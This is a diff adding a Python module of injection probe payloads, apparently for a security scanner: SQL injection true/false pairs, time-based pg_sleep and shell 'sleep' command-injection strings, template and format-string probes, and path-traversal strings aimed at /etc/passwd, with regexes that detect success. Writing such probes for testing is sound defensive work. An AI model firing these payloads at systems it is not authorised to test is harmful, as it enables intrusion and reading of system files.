@@ -1,0 +1,63 @@
+"""Text that does something wherever an argument is taken for more than data. None destroys."""
+
+from __future__ import annotations
+
+import re
+
+SLEEP = 2
+"""Seconds that a payload would have something sleep."""
+PRODUCT = "7919*7907"
+"""A product that nobody has in an answer by chance, to be worked out by whoever evaluates."""
+WORKED_OUT = str(7919 * 7907)
+
+SQL_PAIRS = (
+    ("' OR '1'='1", "' OR '1'='2"),
+    ("' AND '1'='1", "' AND '1'='2"),
+    ("' OR 1=1 --", "' OR 1=2 --"),
+    ('" OR "1"="1', '" OR "1"="2'),
+    (" OR 1=1", " OR 1=2"),
+    ("') OR ('1'='1", "') OR ('1'='2"),
+)
+"""Endings of an argument: a database that reads them finds the first true, the second false."""
+
+SLEEPERS = {
+    "SQL, a condition": "' OR pg_sleep({seconds}) IS NULL OR '1'='2",
+    "SQL, a string": "'||(SELECT pg_sleep({seconds})::text)||'",
+    "SQL, a second statement": "'; SELECT pg_sleep({seconds}); --",
+    "SQL, a number": " OR 1=(SELECT 1 FROM pg_sleep({seconds}))",
+    "shell, a substitution": "$(sleep {seconds})",
+    "shell, backticks": "`sleep {seconds}`",
+    "shell, a second command": "; sleep {seconds} #",
+    "shell, out of single quotes": "'; sleep {seconds}; '",
+    "shell, out of double quotes": '"; sleep {seconds}; "',
+    "shell, a pipe": "| sleep {seconds}",
+    "Python": "__import__('time').sleep({seconds})",
+}
+"""Endings of an argument that have whoever runs them sleep."""
+
+EVALUATED = {
+    "Jinja": f"{{{{{PRODUCT}}}}}",
+    "expression language": f"${{{PRODUCT}}}",
+    "Ruby": f"#{{{PRODUCT}}}",
+    "ERB": f"<%= {PRODUCT} %>",
+    "f-string": f"{{{PRODUCT}}}",
+    "shell arithmetic": f"$(( {PRODUCT} ))",
+    "shell": f"$(expr {PRODUCT.replace('*', ' ' + chr(92) + '* ')})",
+}
+"""Endings of an argument in which the product stands, by what would work it out."""
+
+FORMATS = ("{0.__class__}", "{error.__class__}", "{self.__init__.__globals__}", "%(name)s", "%x%n")
+"""Endings of an argument that a formatter would fill in."""
+FILLED_IN = re.compile(r"<class |__builtins__|<module |<built-in |<bound method|<function ")
+
+PATHS = (
+    "../../../../../../../../etc/passwd",
+    "/etc/passwd",
+    "file:///etc/passwd",
+    "....//....//....//....//....//etc/passwd",
+    "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
+    "/etc/passwd\0.json",
+    "/proc/self/status",
+)
+"""Whole arguments that name a file every Unix has."""
+FILE_CONTENT = re.compile(r"root:[^:\s]*:0:0:|VmPeak:|Threads:\s*\d")
